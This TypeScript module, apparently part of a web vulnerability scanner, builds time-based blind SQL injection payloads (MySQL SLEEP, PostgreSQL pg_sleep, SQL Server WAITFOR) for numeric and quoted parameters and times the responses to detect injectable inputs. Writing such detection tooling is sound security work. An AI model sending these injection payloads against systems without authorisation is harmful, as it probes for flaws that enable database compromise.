// Time-based blind SQL injection, for parameters whose answer never shows what the query found. Each
// payload waits once per query, whatever rows match: MySQL/MariaDB's SLEEP in a derived table (evaluated
// once, not per row), PostgreSQL's pg_sleep in a one-time subquery, SQL Server's WAITFOR. Nothing is
// changed on the server; SQLite has no sleep and is left to the boolean check.
import { delayEvidence, timedFinding } from './delay.ts';
import type { TimedFinding } from './delay.ts';
import type { DelayPayload } from './delay.ts';
import type { ParamProbe } from './param-probe.ts';

const mysql = (s: number) => `(SELECT 1 FROM (SELECT SLEEP(${s}))vigil)`;
const postgres = (s: number) => `1=(SELECT 1 FROM PG_SLEEP(${s}))`;

export const sqlDelayPayloads: DelayPayload[] = [
  { label: 'MySQL/MariaDB SLEEP(), numeric', build: (p, s) => `${p.numeric} AND ${mysql(s)}` },
  { label: "MySQL/MariaDB SLEEP(), '…'", build: (p, s) => `${p.original}' AND ${mysql(s)} AND '1'='1` },
  { label: 'MySQL/MariaDB SLEEP(), "…"', build: (p, s) => `${p.original}" AND ${mysql(s)} AND "1"="1` },
  { label: 'PostgreSQL pg_sleep(), numeric', build: (p, s) => `${p.numeric} AND ${postgres(s)}` },
  { label: "PostgreSQL pg_sleep(), '…'", build: (p, s) => `${p.original}' AND ${postgres(s)} AND '1'='1` },
  { label: 'SQL Server WAITFOR, numeric', build: (p, s) => `${p.numeric}; WAITFOR DELAY '0:0:${s}'-- -` },
  { label: "SQL Server WAITFOR, '…'", build: (p, s) => `${p.original}'; WAITFOR DELAY '0:0:${s}'-- -` },
];

/** The finding, the reason the parameter could not be timed, or null when it was timed and is clean. */
export async function timeSqlInjection(probe: ParamProbe, fresh = false): Promise<TimedFinding> {
  return timedFinding(probe, 'web.sqli.time', await delayEvidence(probe, sqlDelayPayloads, fresh));
}
